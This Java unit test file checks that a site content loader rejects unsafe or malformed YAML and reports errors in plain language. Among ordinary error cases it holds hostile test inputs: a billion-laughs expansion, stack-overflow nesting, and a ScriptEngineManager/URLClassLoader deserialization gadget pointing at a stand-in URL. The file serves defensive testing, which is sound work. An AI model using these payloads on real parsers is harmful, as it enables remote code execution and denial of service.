package baton.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.nio.file.Path;
import java.time.Duration;
import java.util.Collections;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** YAML that content has no use for, or that would harm the build, is refused with a short message. */
class YamlSafetyTest {

  @TempDir Path dir;

  private static final String FILE = "content/actors/x.yaml";

  @Test
  void anAliasIsRefused() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: Mark\nkind: *person\n").load();

    assertThat(result.problems())
        .containsExactly(FILE + ":2:7: YAML anchors and aliases are not supported (write the value out)");
    assertThat(result.files()).containsExactly("content/site.yaml");
  }

  @Test
  void anAnchorIsRefusedEvenOnAPlainValue() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: &who Mark\nkind: person\n").load();

    assertThat(result.problems())
        .containsExactly(FILE + ":1:7: YAML anchors and aliases are not supported (write the value out)");
  }

  @Test
  void anAnchorOnAKeyIsRefused() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: Mark\n&k kind: person\n").load();

    assertThat(result.problems())
        .containsExactly(FILE + ":2:1: YAML anchors and aliases are not supported (write the value out)");
  }

  @Test
  void aBillionLaughsDocumentIsRefusedQuicklyAtItsFirstAnchor() {
    StringBuilder yaml = new StringBuilder("name: lol\na: &a [")
        .append(String.join(",", Collections.nCopies(9, "\"lol\""))).append("]\n");
    for (char c = 'b'; c <= 'j'; c++) {
      String previous = "*" + (char) (c - 1);
      yaml.append(c).append(": &").append(c).append(" [")
          .append(String.join(",", Collections.nCopies(9, previous))).append("]\n");
    }
    TestSite site = TestSite.withSettings(dir).file(FILE, yaml.toString());

    TestSite.Result result = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> site.load());

    assertThat(result.problems())
        .containsExactly(FILE + ":2:4: YAML anchors and aliases are not supported (write the value out)");
    assertThat(result.files()).containsExactly("content/site.yaml");
  }

  @Test
  void aDuplicateKeyNamesBothLines() {
    TestSite.Result result = TestSite.withSettings(dir)
        .file("content/statements/x.yaml", "date: 2024-02-22\nactor: uk\ndate: 2024-02-23\n")
        .load();

    assertThat(result.problems()).containsExactly(
        "content/statements/x.yaml:3:1: duplicate key 'date' (first at line 1; keep one of them)");
    assertThat(result.files()).containsExactly("content/site.yaml");
  }

  @Test
  void everyDuplicateKeyIsReportedIncludingNestedOnes() {
    TestSite.Result result = TestSite.withSettings(dir).file("content/statements/x.md", """
        ---
        date: 2024-02-22
        source:
          - url: https://a.example
            url: https://b.example
        date: 2024-02-23
        ---
        """).load();

    assertThat(result.problems()).containsExactly(
        "content/statements/x.md:5:5: duplicate key 'url' (first at line 4; keep one of them)",
        "content/statements/x.md:6:1: duplicate key 'date' (first at line 2; keep one of them)");
  }

  @Test
  void aGlobalTagNamingAJavaClassIsRefused() {
    String yaml = "name: Mark\n"
        + "kind: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n";

    TestSite.Result result = TestSite.withSettings(dir).file(FILE, yaml).load();

    assertThat(result.problems())
        .containsExactly(FILE + ":2:7: YAML tags are not supported (remove the tag and write the value plainly)");
  }

  @Test
  void aLocalTagIsRefused() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: !foo Mark\n").load();

    assertThat(result.problems())
        .containsExactly(FILE + ":1:7: YAML tags are not supported (remove the tag and write the value plainly)");
  }

  @Test
  void aBinaryTagIsRefusedBeforeJacksonDecodesIt() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: !!binary not-base64\n").load();

    assertThat(result.problems())
        .containsExactly(FILE + ":1:7: YAML tags are not supported (remove the tag and write the value plainly)");
  }

  @Test
  void deepNestingIsRefusedAtTheFirstLevelTooMany() {
    String yaml = "name: x\nroles: " + "[".repeat(200) + "]".repeat(200) + "\n";
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, yaml).load();

    // The top mapping is level 1, so the 20th '[' (column 8 + 19) is level 21.
    assertThat(result.problems()).containsExactly(FILE + ":2:27: lists and mappings are nested too deeply"
        + " (more than 20 levels) (look for a '[' or '{' that is never closed,"
        + " or for lines indented further than they should be)");
  }

  @Test
  void hugeNestingNeverOverflowsTheStack() {
    String yaml = "name: x\nroles: " + "[".repeat(500_000) + "\n";

    TestSite.Result result = TestSite.withSettings(dir).file(FILE, yaml).load();

    assertThat(result.problems()).containsExactly(FILE + ":2:27: lists and mappings are nested too deeply"
        + " (more than 20 levels) (look for a '[' or '{' that is never closed,"
        + " or for lines indented further than they should be)");
  }

  @Test
  void theNestingLimitFollowsTheLimits() {
    TestSite.Result result = TestSite.withSettings(dir)
        .file(FILE, "name: x\nroles:\n  - title: a\n")
        .load(new Limits(1_048_576, 2, 100));

    assertThat(result.problems()).containsExactly(FILE + ":3:5: lists and mappings are nested too deeply"
        + " (more than 2 levels) (look for a '[' or '{' that is never closed,"
        + " or for lines indented further than they should be)");
  }

  @Test
  void aListAsKeyIsRefused() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: x\n? [a, b]\n: c\n").load();

    assertThat(result.problems()).containsExactly(
        FILE + ":2:3: a key must be a plain name, not a list or mapping (write each field as 'name: value')");
  }

  @Test
  void anEmptyYamlFileIsAnError() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "").load();

    assertThat(result.problems())
        .containsExactly(FILE + ": the file is empty (write the entry's fields as 'name: value' lines)");
  }

  @Test
  void aYamlFileOfCommentsOnlyIsEmpty() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "# name: Mark\n").load();

    assertThat(result.problems())
        .containsExactly(FILE + ": the file is empty (write the entry's fields as 'name: value' lines)");
  }

  @Test
  void aListInsteadOfAMappingIsAnError() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "- name: Mark\n- kind: person\n").load();

    assertThat(result.problems()).containsExactly(
        FILE + ":1:1: expected a mapping of fields, found a list (write the fields as 'name: value' lines)");
  }

  @Test
  void aTextInsteadOfAMappingIsAnError() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "Mark Rutte\n").load();

    assertThat(result.problems()).containsExactly(
        FILE + ":1:1: expected a mapping of fields, found a text (write the fields as 'name: value' lines)");
  }

  @Test
  void aSecondDocumentIsAnErrorAtItsSeparator() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: Mark\n---\nname: Dick\n").load();

    assertThat(result.problems()).containsExactly(FILE + ":2:1: more than one YAML document (an entry is one mapping"
        + " of fields; remove the '---' line or move what follows it to a file of its own)");
  }

  @Test
  void anExplicitDocumentStartIsFine() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "---\nname: Mark\n").load();

    assertThat(result.problems()).isEmpty();
    assertThat(result.scalar(FILE, "name").pos()).hasToString(FILE + ":2:7");
  }

  @Test
  void aTabIndentGetsAHintToUseSpaces() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: Mark\nroles:\n\t- title: PM\n").load();

    assertThat(result.problems())
        .containsExactly(FILE + ":3:1: invalid YAML: a tab cannot be used here (indent with spaces, not tabs)");
  }

  @Test
  void aColonInAnUnquotedValueGetsAHint() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: Mark\nnote: said: yes\n").load();

    assertThat(result.problems()).containsExactly(FILE + ":2:11: invalid YAML: unexpected ':'"
        + " (put a value that contains ': ' in quotes, or check the indentation)");
  }

  @Test
  void anUnclosedListNamesWhereItStarts() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: Mark\naliases: [a, b\n").load();

    assertThat(result.problems()).containsExactly(FILE + ":3:1: invalid YAML: expected ',' or ']', but got the end"
        + " of the file (in the list '[' that starts at line 2, column 10)");
  }

  @Test
  void parserMessagesCarryNoJavaNoise() {
    TestSite.Result result = TestSite.withSettings(dir)
        .file(FILE, "name: Mark\n  kind: person\n")
        .file("content/actors/y.yaml", "name: \"\\q\"\n")
        .file("content/actors/z.yaml", "name: @mark\n")
        .file("content/actors/w.yaml", "name: a\u0001b\n")
        .load();

    assertThat(result.problems()).hasSize(4).allSatisfy(problem -> assertThat(problem)
        .startsWith("content/actors/")
        .contains(": invalid YAML: ")
        .doesNotContain("Source:", "org.", "com.", "java", "Exception", "\n"));
  }

  @Test
  void aControlCharacterIsAnErrorAtItsPosition() {
    TestSite.Result result = TestSite.withSettings(dir).file(FILE, "name: Mark\nkind: a\u0001b\n").load();

    assertThat(result.problems()).containsExactly(FILE + ":2:8: invalid YAML: the character U+0001 is not allowed"
        + " (remove it; YAML does not allow control characters)");
  }
}
